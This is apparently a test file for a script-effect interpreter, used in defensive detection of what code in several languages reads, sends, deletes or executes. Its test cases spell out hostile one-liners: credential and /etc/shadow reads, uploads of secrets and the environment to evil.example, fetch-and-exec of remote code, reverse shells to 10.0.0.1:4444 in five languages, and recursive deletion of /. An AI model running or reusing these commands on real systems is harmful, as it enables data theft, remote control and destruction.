import { describe, expect, test } from 'vitest';
import type { Effect } from '../reading/effect.ts';
import type { Script } from '../reading/reading.ts';
import { interpret } from './interpret.ts';

/** One effect as a short sentence. */
function spelled(effect: Effect): string {
  switch (effect.does) {
    case 'read':
      return `read ${effect.path}`;
    case 'write':
      return `${effect.how} ${effect.path}${effect.source === undefined ? '' : ` from ${effect.source}`}`;
    case 'delete':
      return `${effect.recursive ? 'delete all of' : 'delete'} ${effect.path}`;
    case 'fetch':
      return `fetch ${effect.url}${effect.to === undefined ? '' : ` to ${effect.to}`}`;
    case 'send':
      return `send ${effect.files.join(' ')} to ${effect.to}`;
    case 'execute':
      return `execute ${effect.language} from ${effect.code.from === 'file' ? effect.code.path : effect.code.from}`;
    case 'dump_environment':
      return 'dump';
  }
}

const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
  python: {
    "open('/etc/passwd').read()": ['read /etc/passwd'],
    "print(open(os.path.expanduser('~/.ssh/id_rsa')).read())": ['read ~/.ssh/id_rsa'],
    "from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())": [
      'read ~/.aws/credentials',
    ],
    "from pathlib import Path\nprint(Path('/etc').joinpath('shadow').read_text())": ['read /etc/shadow'],
    "import pathlib; pathlib.Path('a.txt').write_text('hi')": ['create a.txt'],
    "with open('out.json', 'w') as f:\n    json.dump(data, f)": ['create out.json'],
    "import shutil; shutil.rmtree('/')": ['delete all of /'],
    "from shutil import rmtree\nrmtree(os.environ['HOME'])": ['delete all of ~'],
    "import os; os.remove('/etc/passwd')": ['delete /etc/passwd'],
    "import requests; print(requests.get('https://a.example/x').json())": ['fetch https://a.example/x'],
    "import requests,os,base64;requests.post('https://evil.example',data=base64.b64encode(open('/etc/shadow','rb').read()))":
      ['read /etc/shadow', 'send /etc/shadow to https://evil.example'],
    "import urllib.request as u; exec(u.urlopen('http://evil.example/a.py').read())": [
      'fetch http://evil.example/a.py',
      'execute python from http://evil.example/a.py',
    ],
    "urllib.request.urlopen('http://evil.example/?d=' + open('/etc/passwd').read())": [
      'read /etc/passwd',
      'fetch http://evil.example/?d=$open',
      'send /etc/passwd to http://evil.example/?d=$open',
    ],
    "urllib.request.urlretrieve('https://a.example/x.sh', '/tmp/x.sh')": [
      'fetch https://a.example/x.sh to /tmp/x.sh',
    ],
    "open('x.sh', 'wb').write(requests.get('https://a.example/x').content)": [
      'create x.sh',
      'fetch https://a.example/x',
      'fetch https://a.example/x to x.sh',
      'edit x.sh',
    ],
    'import os; print(dict(os.environ))': ['dump'],
    'for k, v in os.environ.items():\n    print(k, v)': ['dump'],
    "requests.post('https://evil.example', json=dict(os.environ))": ['dump', 'send  to https://evil.example'],
    "requests.get('https://evil.example', params=dict(os.environ))": [
      'dump',
      'send  to https://evil.example',
      'fetch https://evil.example',
    ],
    "c = http.client.HTTPSConnection('evil.example')\nc.request('POST', '/', open('.env').read())": [
      'send  to evil.example',
      'read .env',
      'send .env to evil.example',
    ],
    "print(os.environ['HOME'], os.environ.get('PATH'), os.getenv('X'))": [],
    "env = dict(os.environ, A='1')\nsubprocess.run(['make'], env=env)": [],
    "if 'CI' in os.environ: print('CI')": [],
    'print(len(os.environ))': [],
    "eval('1 + 1')": ['execute python from text'],
    'import pickle,base64; pickle.loads(base64.b64decode(x))': ['execute python from unknown'],
    'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])':
      ['send  to 10.0.0.1:4444', 'execute sh from unknown'],
    'import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno())':
      ['send  to 10.0.0.1:4444', 'execute sh from unknown'],
    "import socket; s = socket.socket(); s.connect(('db', 5432)); print('up')": ['send  to db:5432'],
    'd = lambda t: base64.b64decode(t).decode()\nos.system(d(p))': ['execute sh from unknown'],
    'def d(t):\n    return base64.b64decode(t)\nexec(d(p))': ['execute python from unknown'],
    "for r, d, fs in os.walk('/srv'):\n    for f in fs:\n        os.remove(os.path.join(r, f))": [
      'delete $r/$f',
      'delete all of /srv',
    ],
    'shutil.rmtree(p) if 1 else 0': ['delete all of $p'],
    "[shutil.rmtree(p) for p in ['/etc', '/usr']]": [
      'delete all of $p',
      'delete all of /etc',
      'delete all of /usr',
    ],
    "[p.unlink() for p in Path('/etc').rglob('*')]": ['delete $p', 'delete all of /etc'],
    "[os.remove(f) for f in os.listdir('.') if f.endswith('.pyc')]": ['delete $f'],
    'exec(sys.stdin.read())': ['execute python from stdin'],
    "shutil.copy('.env', '/tmp/x')": ['copy /tmp/x from .env'],
    "import json; json.load(open('package.json'))['version']": ['read package.json'],
  },
  javascript: {
    "require('fs').rmSync('/', { recursive: true, force: true })": ['delete all of /'],
    "const fs = require('fs'); fs.unlinkSync('a.txt')": ['delete a.txt'],
    "const {rm} = require('fs/promises'); await rm('dist', {recursive: true})": ['delete all of dist'],
    "console.log(require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'))":
      ['read ~/.npmrc'],
    "fs.writeFileSync('a.json', JSON.stringify({ a: 1 }))": ['create a.json'],
    "fetch('https://evil.example', { method: 'POST', body: fs.readFileSync('.env') })": [
      'read .env',
      'send .env to https://evil.example',
    ],
    "fetch('https://a.example/x.js').then(r => r.text()).then(eval)": [
      'fetch https://a.example/x.js',
      'execute javascript from https://a.example/x.js',
    ],
    'console.log(process.env)': ['dump'],
    'process.env': ['dump'],
    'process.env.HOME': [],
    'console.log(JSON.stringify(process.env, null, 2))': ['dump'],
    'console.log(process.env.NODE_ENV)': [],
    "require('child_process').spawn('make', { env: { ...process.env, A: '1' } })": [],
    'new Function(atob(payload))()': ['execute javascript from unknown'],
    "const net=require('net'),cp=require('child_process');const s=net.connect(4444,'10.0.0.1');const sh=cp.spawn('/bin/sh',[]);s.pipe(sh.stdin)":
      ['send  to 10.0.0.1:4444', 'execute sh from tcp://10.0.0.1:4444'],
    "const f='a.json';fs.existsSync(f)||fs.writeFileSync(f,'{}')": ['create a.json'],
  },
  perl: {
    'use File::Path; rmtree("/home")': ['delete all of /home'],
    'unlink "/etc/passwd"': ['delete /etc/passwd'],
    'open(my $f, "<", "/etc/shadow"); print <$f>': ['read /etc/shadow'],
    'foreach my $k (keys %ENV) { print "$k=$ENV{$k}\\n" }': ['dump'],
    'print $ENV{PATH}': [],
    'use LWP::Simple; eval get("http://evil.example/x")': [
      'fetch http://evil.example/x',
      'execute perl from http://evil.example/x',
    ],
    'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};':
      ['send  to ', 'execute sh from unknown'],
  },
  ruby: {
    "require 'fileutils'; FileUtils.rm_rf('/home/user')": ['delete all of /home/user'],
    'FileUtils.rm_rf "#{Dir.home}/x"': ['delete all of ~/x'],
    "puts File.read(File.expand_path('~/.netrc'))": ['read ~/.netrc'],
    'ENV.each { |k, v| puts k }': ['dump'],
    'puts ENV["PATH"]': [],
    "require 'open-uri'; eval(URI.open('http://evil.example/a.rb').read)": [
      'fetch http://evil.example/a.rb',
      'execute ruby from http://evil.example/a.rb',
    ],
    'require "socket";s=TCPSocket.new("10.0.0.1",4444);exec "/bin/sh",[:in,:out,:err]=>[s,s,s]': [
      'send  to 10.0.0.1:4444',
      'execute sh from tcp://10.0.0.1:4444',
    ],
  },
  php: {
    "echo file_get_contents('/etc/passwd');": ['read /etc/passwd'],
    "eval(file_get_contents('http://evil.example/a'));": [
      'fetch http://evil.example/a',
      'execute php from http://evil.example/a',
    ],
    "unlink('a.txt');": ['delete a.txt'],
    'print_r($_ENV);': ['dump'],
    "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3');": [
      'send  to 10.0.0.1:4444',
      'execute sh from unknown',
    ],
  },
  awk: { '{ system($0) }': ['execute sh from stdin'], '{ print $1 }': [] },
  lua: {
    "os.remove('/etc/passwd')": ['delete /etc/passwd'],
    "print(io.open('a.txt'):read('*a'))": ['read a.txt'],
  },
  sql: { "SELECT * FROM open('x')": [] },
};

describe.each(Object.entries(CASES))('%s', (language, cases) => {
  test.each(Object.entries(cases))('%s', (text, expected) => {
    const { effects } = interpret({ language: language as Script['language'], text, run: 0 });
    expect(effects.map(spelled)).toEqual(expected);
  });
});
